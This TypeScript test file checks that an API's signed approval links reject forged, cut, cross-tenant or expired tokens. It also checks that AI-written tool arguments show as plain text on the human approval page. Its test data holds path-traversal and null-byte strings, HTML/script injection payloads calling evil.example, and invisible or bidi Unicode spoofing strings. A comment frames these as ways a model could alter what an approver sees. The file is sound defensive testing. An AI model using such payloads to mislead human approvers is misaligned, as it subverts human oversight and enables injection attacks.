/**
 * Proven over the real stores, row-level security included: a link that was cut, changed or forged, or that is of another tenant, purpose
 * or server, decides nothing and is answered like any other wrong one; nothing a model writes becomes markup of the page.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeApprovalLink } from '../../domain/approval-link.js';
import type { NewApprovalLink } from '../../domain/approval-link.js';
import type { ApprovalRecord } from '../../domain/ports/approval-store.js';
import type { Scope } from '../../domain/scope.js';
import { startApi } from '../support/api-fakes.js';
import type { Answer, ApiFixture } from '../support/api-fakes.js';
import { ASKED_HASH, anAskedApproval } from '../support/asked-approval.js';
import { countCases } from './case-count.js';
import { startRealApi } from './tenancy/real-api.js';
import type { RealApi } from './tenancy/real-api.js';

const scope: Scope = { tenantId: 'default', principalId: 'tester', scopes: ['read', 'write'] };
const HTML = { accept: 'text/html', authorization: '' };
const JSON_ONLY = { accept: 'application/json', authorization: '' };

let real: RealApi;
let api: ApiFixture;
let approval: ApprovalRecord;
beforeAll(async () => {
  real = await startRealApi();
  ({ api } = real);
  approval = await anAskedApproval(api.deps, scope);
});
afterAll(() => real.close());

const on = (where: ApiFixture, method: string, path: string, body?: unknown): Promise<Answer> =>
  where.request(method, path, body, JSON_ONLY);
const status = async (id = approval.id): Promise<string | undefined> =>
  (await api.deps.approvals.get(scope, id))?.status;
const link = async (changes: Partial<NewApprovalLink> = {}): Promise<string> =>
  (
    await makeApprovalLink(real.box, {
      id: 'alink_1',
      tenantId: 'default',
      madeBy: 'tester',
      approval,
      untilMs: null,
      baseUrl: '',
      ...changes,
    })
  ).url;
const said = ({ status: code, text }: Answer): string => `${code} ${text.replace(/"request_id":"[^"]*"/, '')}`;

describe('what is no link', () => {
  it('cut, changed, of another purpose, server or tenant, or plain nonsense: one answer, after the same time', async () => {
    const token = (await link()).split('/').at(-1) ?? '';
    const [body = '', mac = ''] = token.split('.');
    const claims = JSON.parse(Buffer.from(body, 'base64url').toString('utf8')) as [string, string, number, string];
    const written = (changed: readonly unknown[]): string =>
      `${Buffer.from(JSON.stringify(changed)).toString('base64url')}.${mac}`;
    const [tenant, keyId, untilMs, subject] = claims;
    const sign = (purpose: string, text: string): Promise<string> => real.box.sign('default', purpose, text, untilMs);
    const stranger = await startApi();
    const wrong = [
      ...[1, 2, 40, mac.length, token.length - 1].map((cut) => token.slice(0, -cut)),
      `${token}A`,
      `${token}=`,
      token.slice(1),
      token.replace('.', ''),
      `.${mac}`,
      `${body}.`,
      `${mac}.${body}`,
      'x',
      'x'.repeat(5_000),
      '%00',
      '..%2f..%2fapprovals',
      `${approval.id}.${ASKED_HASH}`,
      written(['rivals', keyId, untilMs, subject]),
      written(['never-heard-of', keyId, untilMs, subject]),
      written([tenant, '000000000000', untilMs, subject]),
      written([tenant, keyId, untilMs + 1, subject]),
      written([tenant, keyId, untilMs, subject.replace('tester', 'admin')]),
      written([tenant, keyId, untilMs]),
      written([]),
      await sign('image', subject),
      await sign('approval', approval.id),
      await sign('approval', `${subject} more`),
      await stranger.deps.links.box.sign('default', 'approval', subject, untilMs),
    ];
    countCases({ corpus: 'approval links', required: 'decide nothing', payloads: wrong.length });
    const answers: string[] = [];
    const times: number[] = [];
    for (const each of wrong) {
      const startedMs = performance.now();
      answers.push(said(await on(api, 'POST', `/v1/approval-links/${each}`, { decision: 'approve' })));
      times.push(performance.now() - startedMs);
    }
    answers.push(said(await on(api, 'GET', `/v1/approval-links/${wrong[0] ?? ''}`)));
    expect([...new Set(answers)]).toHaveLength(1);
    expect(answers[0]).toMatch(/^404 .*approval\.link-not-found/);
    expect(Math.min(...times)).toBeGreaterThan(90);
    expect(await status()).toBe('pending');
    await stranger.close();
  });

  it('genuine, but over, or for what is not there: 410', async () => {
    const over = [
      await link({ untilMs: Date.now() - 1_000 }),
      await link({ approval: { ...approval, argumentsHash: 'b'.repeat(64) } }),
      await link({ approval: { ...approval, id: 'appr_0' } }),
    ];
    for (const path of over) {
      expect((await on(api, 'GET', path)).json.error.code).toBe('approval.link-gone');
      expect((await on(api, 'POST', path, { decision: 'approve' })).json.error.code).toBe('approval.link-gone');
    }
    expect(await status()).toBe('pending');
  });

  it('another tenant signs a link to it with its own key: there is nothing for it to decide', async () => {
    await api.deps.apiKeys.ensureTenant('rivals', 'Rivals');
    const path = await link({ tenantId: 'rivals' });
    const answer = await on(api, 'POST', path, { decision: 'approve' });
    expect(answer.json.error.code).toBe('approval.link-gone');
    expect(answer.text).not.toContain('send_mail');
    expect(await status()).toBe('pending');
  });

  it('whoever made it was revoked: gone; restored: works', async () => {
    const admin: Scope = { ...scope, scopes: ['admin'] };
    const path = await link();
    await api.deps.directory.revokeUser(admin, 'tester');
    expect((await on(api, 'GET', path)).status).toBe(410);
    expect((await on(api, 'POST', path, { decision: 'approve' })).status).toBe(410);
    await api.deps.directory.restoreUser(admin, 'tester');
    expect((await on(api, 'GET', path)).status).toBe(200);
    expect(await status()).toBe('pending');
  });

  it('too many wrong ones from one address: 429, while a genuine one still works; too many uses of that: 429', async () => {
    const alone = await startApi({ ...api.deps });
    const path = await link();
    const wrong = await Promise.all(Array.from({ length: 125 }, () => on(alone, 'GET', '/v1/approval-links/x')));
    expect(wrong.filter((each) => each.status === 404)).toHaveLength(120);
    const limited = wrong.filter((each) => each.status === 429);
    expect(limited).toHaveLength(5);
    expect(Number(limited[0]?.headers.get('retry-after'))).toBeGreaterThan(0);
    const uses = await Promise.all(Array.from({ length: 241 }, () => on(alone, 'GET', path)));
    expect(uses.filter((each) => each.status === 200)).toHaveLength(240);
    expect(uses.filter((each) => each.status === 429)).toHaveLength(1);
    await alone.close();
  });
});

/** What a model may write to change what a person sees before they press a button. */
const ARGUMENTS: readonly (object | string)[] = [
  { to: '</pre><button name="decision" value="approve">Deny</button>' },
  { '</pre><form action="https://evil.example">': '<input name="decision" value="approve">' },
  { to: '</pre></form><form method="get" action="//evil.example">' },
  { to: '<style>.deny{display:none}</style>' },
  { to: '<script src="//evil.example/x.js"></script>' },
  { to: '<img src="//evil.example/seen.png" onerror="fetch(1)">' },
  { to: '<meta http-equiv="refresh" content="0;url=//evil.example">' },
  { to: '<base href="//evil.example/">' },
  { to: '<iframe srcdoc="&lt;script&gt;1&lt;/script&gt;">' },
  { to: '<link rel="stylesheet" href="//evil.example/x.css">' },
  { to: '"autofocus onfocus="fetch(1)' },
  { to: '\u202e\u2066moc.elpmaxe@annA\u2069' },
  { to: 'anna\u200b@example.com\u00ad', cc: '\u{e0041}\u{e0042}' },
  { to: 'a\r\u001b[2K\u0008' },
  '</pre><script>1</script> is no JSON',
  '{"to":"safe","to":"</pre><b>evil"}',
];
/** Tags of the page itself. */
const OURS =
  /<\/?(dl|dt|dd|h1|h2|bdi|pre|b|p|form|label|body|html)>|<(p class="(hint|small)"|form method="post"|label for="reason"|input id="reason"[^<>]*|button class="(deny|approve)" name="decision" value="(deny|approve)")>|<\/button>/g;

countCases({ corpus: 'arguments on a page', required: 'are text, all of it seen', payloads: ARGUMENTS.length });

describe('the page', () => {
  it.each(ARGUMENTS)('%j: is text on it, and every character of it is seen', async (args) => {
    const asked = await anAskedApproval(api.deps, scope, args);
    const answer = await api.request('GET', await link({ approval: asked }), undefined, HTML);
    expect(answer.status).toBe(200);
    const body = answer.text.slice(answer.text.indexOf('<body>'));
    expect(body.replace(OURS, '')).not.toMatch(/[<>]/);
    expect(body.match(/<button/g)).toHaveLength(2);
    const unseen = /[^\P{C}\n]|[^\P{Zs} ]|\p{Default_Ignorable_Code_Point}/u;
    expect(body).not.toMatch(unseen);
    expect(await status(asked.id)).toBe('pending');
  });
});
